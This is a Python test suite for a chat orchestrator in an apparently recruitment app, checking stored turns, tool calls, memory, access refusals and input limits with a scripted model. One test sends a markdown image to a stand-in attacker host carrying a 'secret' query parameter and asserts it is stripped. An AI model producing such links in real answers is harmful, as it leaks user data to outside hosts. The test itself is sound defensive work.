"""A turn's logic, with a scripted model: what is stored, shown, remembered, stopped and refused."""

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import aclosing
from dataclasses import replace
from uuid import uuid4

import pytest
import sqlalchemy as sa
from agents.testing import ModelStep, ScriptedModel, assistant_message
from sqlalchemy.ext.asyncio import AsyncSession

from core.database import Database
from core.errors import DatabaseUnavailable
from models import AuditEvent, Conversation, Message, MessageCV, User
from orchestrator.events import CardShown, Failed, Finished, StepFinished, StepStarted, TextDelta
from orchestrator.turn import Orchestrator
from services.conversations import LONGEST_NAME
from services.runtime import Services
from tests.orchestrator.turns import Chat, Endless, answer_of, call, steps_of

Begin = Callable[..., Awaitable[Chat]]


async def test_a_plain_answer_is_streamed_and_stored(chat: Begin) -> None:
    talk = await chat(model=ScriptedModel([[assistant_message("Hello there.")]]))

    events = await talk.say("Hi")

    assert answer_of(events) == "Hello there."
    rows = await talk.rows()
    assert [(row.role, row.content) for row in rows] == [("user", "Hi"), ("assistant", "Hello there.")]
    assert rows[0].ui["run_id"] == rows[1].ui["run_id"]


async def test_tool_calls_are_told_stored_and_linked_to_their_cvs(
    chat: Begin, make_cv: Callable, session: AsyncSession
) -> None:
    cv = await make_cv(full_name="Ann Lee")
    lookup = call("look_up_cvs", {"name": "Ann"}, id="call-1")
    talk = await chat(model=ScriptedModel([[lookup], [assistant_message("There is Ann Lee.")]]))

    events = await talk.say("Who is called Ann?")

    started, finished = events[0], events[1]
    assert isinstance(started, StepStarted)
    assert (started.tool, started.title, started.arguments) == (
        "look_up_cvs",
        "Looking up CVs",
        {"name": "Ann"},
    )
    assert isinstance(finished, StepFinished)
    assert (finished.call_id, finished.rows, finished.failed) == ("call-1", 1, False)
    rows = await talk.rows()
    assert [row.role for row in rows] == ["user", "tool_call", "tool_result", "assistant"]
    assert rows[1].item is not None
    assert rows[1].item["call_id"] == "call-1"
    assert rows[2].ui["rows"] == 1
    assert rows[2].ui["duration_ms"] >= 0
    linked = await session.scalars(sa.select(MessageCV.message_id).where(MessageCV.cv_file_id == cv.id))
    assert set(linked) == {row.id for row in rows}


async def test_cards_are_shown_and_kept_with_the_answer(chat: Begin, make_cv: Callable) -> None:
    cv = await make_cv(full_name="Ann Lee")
    lookup = call("show_profile", {"cv_id": cv.id})
    talk = await chat(model=ScriptedModel([[lookup], [assistant_message("Here.")]]))

    events = await talk.say("Open it")

    assert [event.card.id for event in events if isinstance(event, CardShown)] == [str(cv.id)]
    assert (await talk.rows())[-1].ui["cards"] == [{"kind": "profile", "id": str(cv.id)}]


async def test_two_turns_remember_and_nothing_is_said_twice(chat: Begin, make_cv: Callable) -> None:
    await make_cv(full_name="Ann Lee")
    lookup = call("look_up_cvs", {"name": "Ann"}, id="1")
    model = ScriptedModel(
        [[lookup], [assistant_message("There is one.")], [lookup], [assistant_message("Still one.")]]
    )
    talk = await chat(model=model)

    await talk.say("Who is called Ann?")
    await talk.say("Are you sure?")

    heard = model.calls[2].input
    assert [item.get("role", item.get("type")) for item in heard] == [
        "user", "function_call", "function_call_output", "assistant", "user",
    ]  # fmt: skip
    assert heard[0]["content"] == "Who is called Ann?"
    assert heard[1]["call_id"] == heard[2]["call_id"]
    assert heard[-1]["content"] == "Are you sure?"
    # This server numbers its calls from 1 in every turn: both exchanges must still be there.
    last = model.calls[3].input
    assert len([item for item in last if item.get("type") == "function_call_output"]) == 2


async def test_another_orchestrator_remembers_too(chat: Begin, make_user: Callable) -> None:
    user = await make_user()
    before = await chat(user=user, model=ScriptedModel([[assistant_message("Noted.")]]))
    await before.say("I look for a nurse.")
    model = ScriptedModel([[assistant_message("A nurse.")]])
    after = await chat(user=user, model=model, id=before.id)

    await after.say("Whom do I look for?")

    assert [item["content"] for item in model.calls[0].input] == [
        "I look for a nurse.",
        "Noted.",
        "Whom do I look for?",
    ]


async def test_stop_keeps_what_was_said(chat: Begin) -> None:
    talk = await chat(model=Endless())
    heard: list[str] = []
    enough = asyncio.Event()

    async def listen() -> None:
        async with aclosing(talk.turn("Tell me everything")) as events:
            async for event in events:
                heard.extend([event.text] if isinstance(event, TextDelta) else [])
                if len(heard) > 5:
                    enough.set()

    task = asyncio.create_task(listen())
    await enough.wait()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task

    answer = (await talk.rows())[-1]
    assert answer.role == "assistant"
    assert answer.ui["stopped"] is True
    assert answer.content == "".join(heard)


async def test_a_listener_who_leaves_keeps_what_was_said(chat: Begin) -> None:
    talk = await chat(model=Endless())

    async with aclosing(talk.turn("Tell me everything")) as events:
        async for event in events:
            if isinstance(event, TextDelta):
                break

    assert (await talk.rows())[-1].ui["stopped"] is True


async def test_a_disabled_account_is_turned_away_and_nothing_is_stored(
    chat: Begin, session: AsyncSession
) -> None:
    talk = await chat(model=ScriptedModel([]))
    await session.execute(sa.update(User).where(User.id == talk.user_id).values(active=False))
    await session.commit()

    events = await talk.say("Hi")

    assert events == [Failed("Please sign in again.")]
    assert await talk.rows() == []


async def test_an_ended_session_is_turned_away(chat: Begin) -> None:
    talk = await chat(model=ScriptedModel([]))

    assert await talk.say("Hi", token_version=7) == [Failed("Please sign in again.")]


async def test_another_users_conversation_is_not_entered(chat: Begin) -> None:
    mine = await chat(model=ScriptedModel([[assistant_message("Yours.")]]))
    await mine.say("Mine")
    other = await chat(model=ScriptedModel([]), id=mine.id)

    (event,) = await other.say("Let me in")

    assert isinstance(event, Failed)
    assert len(await mine.rows()) == 2


async def test_a_message_id_of_another_conversation_changes_nothing(chat: Begin) -> None:
    id = uuid4()
    mine = await chat(model=ScriptedModel([[assistant_message("Yours.")]]))
    await mine.say("Mine", message_id=id)
    other = await chat(model=ScriptedModel([]))

    (event,) = await other.say("Overwritten", message_id=id)

    assert isinstance(event, Failed)
    assert (await mine.rows())[0].content == "Mine"


async def test_a_hundred_thousand_characters_are_kept_but_not_answered(chat: Begin) -> None:
    talk = await chat(model=ScriptedModel([]))

    events = await talk.say("x" * 100_000)

    assert isinstance(events[-1], Failed)
    assert "100,000 characters" in events[-1].message
    rows = await talk.rows()
    assert len(rows[0].content) == 100_000
    assert rows[1].ui["error"]["message"] == events[-1].message


async def test_text_that_the_database_cannot_hold_is_cleaned(chat: Begin) -> None:
    talk = await chat(model=ScriptedModel([[assistant_message("O\x00K \ud800.")]]))

    events = await talk.say("a\x00b\ud800c")

    assert isinstance(events[-1], Finished)
    assert [row.content for row in await talk.rows()] == ["abc", "OK ."]


async def test_images_html_and_foreign_links_do_not_reach_the_page(chat: Begin) -> None:
    said = "See ![x](https://evil.example/?q=secret) <img src=x> [here](https://evil.example) and [home](/admin)."
    talk = await chat(model=ScriptedModel([[assistant_message(said)]]))

    answer = answer_of(await talk.say("Hi"))

    assert answer == "See x  here and [home](/admin)."
    assert (await talk.rows())[-1].content == answer


async def test_too_many_steps_end_in_a_sentence(chat: Begin) -> None:
    calls = [[call("list_my_uploads", {}, id=f"c{number}")] for number in range(20)]
    talk = await chat(model=ScriptedModel(calls))

    answer = answer_of(await talk.say("Loop"))

    assert "more steps" in answer


async def test_an_unknown_tool_is_answered_to_the_model(chat: Begin) -> None:
    model = ScriptedModel([[call("drop_tables", {})], [assistant_message("I cannot.")]])
    talk = await chat(model=model)

    assert answer_of(await talk.say("Drop it")) == "I cannot."


async def test_wrong_arguments_come_back_as_what_would_be_valid(chat: Begin) -> None:
    model = ScriptedModel([[call("look_up_cvs", {"limit": 900})], [assistant_message("Sorry.")]])
    talk = await chat(model=model)

    (step,) = steps_of(await talk.say("Many"))

    assert step.failed
    assert "limit" in step.note
    assert "less than or equal to 20" in step.note


async def test_a_candidate_is_not_offered_search_and_is_refused_when_a_model_calls_it(
    chat: Begin, session: AsyncSession
) -> None:
    lookup = call("search_experts", {"question": "Who knows Java?"})
    model = ScriptedModel([[lookup], [assistant_message("I may not.")]])
    talk = await chat("candidate", model=model)

    events = await talk.say("Who knows Java?")

    offered = {tool.name for tool in model.calls[0].tools}
    assert "search_experts" not in offered
    assert "compare_experts" not in offered
    assert not [event for event in events if isinstance(event, CardShown)]
    result = model.calls[1].input[-1]["output"]
    assert "results" not in result


async def test_a_role_that_changed_during_the_turn_is_refused_by_the_tool_itself(
    chat: Begin, session: AsyncSession
) -> None:
    talk = await chat("recruiter")

    async def demote_then_call(_: object) -> list[object]:
        await session.execute(sa.update(User).where(User.id == talk.user_id).values(role="candidate"))
        await session.commit()
        return [call("search_experts", {"question": "Who knows Java?"})]

    model = ScriptedModel([ModelStep.respond(demote_then_call), [assistant_message("I may not.")]])
    talk.orchestrator = (await chat(model=model)).orchestrator

    (step,) = steps_of(await talk.say("Who knows Java?"))

    assert step.failed
    assert step.note == "Your account is not allowed to do this."
    refused = (await session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "tool.refused"))).one()
    assert (refused.actor_id, refused.subject) == (talk.user_id, "tool:search_experts")


async def test_a_dead_database_is_said_plainly(chat: Begin, services: Services) -> None:
    talk = await chat(model=ScriptedModel([]))
    nowhere = Database("postgresql+asyncpg://postgres@127.0.0.1:1/none")
    talk.orchestrator = Orchestrator(replace(services, database=nowhere), model=ScriptedModel([]))

    assert await talk.say("Hi") == [Failed(DatabaseUnavailable().message)]


async def test_a_conversation_is_named_after_its_first_message(chat: Begin, session: AsyncSession) -> None:
    talk = await chat(model=ScriptedModel([[assistant_message("One.")], [assistant_message("Two.")]]))
    await talk.say("Who knows Rust?")
    await talk.say("And Go?")

    name = await session.scalar(sa.select(Conversation.name).where(Conversation.uuid == talk.id))
    assert name == "Who knows Rust?"


async def test_a_long_first_message_names_the_conversation_within_the_longest_name(
    chat: Begin, session: AsyncSession
) -> None:
    talk = await chat(model=ScriptedModel([[assistant_message("Yes.")]]))
    await talk.say("word " * 23 + "x" * 4 + " more words")

    name = await session.scalar(sa.select(Conversation.name).where(Conversation.uuid == talk.id))
    assert name == "word " * 22 + "word…"
    assert len(name) <= LONGEST_NAME


async def test_the_same_message_twice_is_one_row(chat: Begin, session: AsyncSession) -> None:
    id = uuid4()
    talk = await chat(model=ScriptedModel([[assistant_message("One.")], [assistant_message("Two.")]]))
    await talk.say("Once", message_id=id)
    await talk.say("Once", message_id=id)

    count = await session.scalar(sa.select(sa.func.count()).where(Message.uuid == id))
    assert count == 1
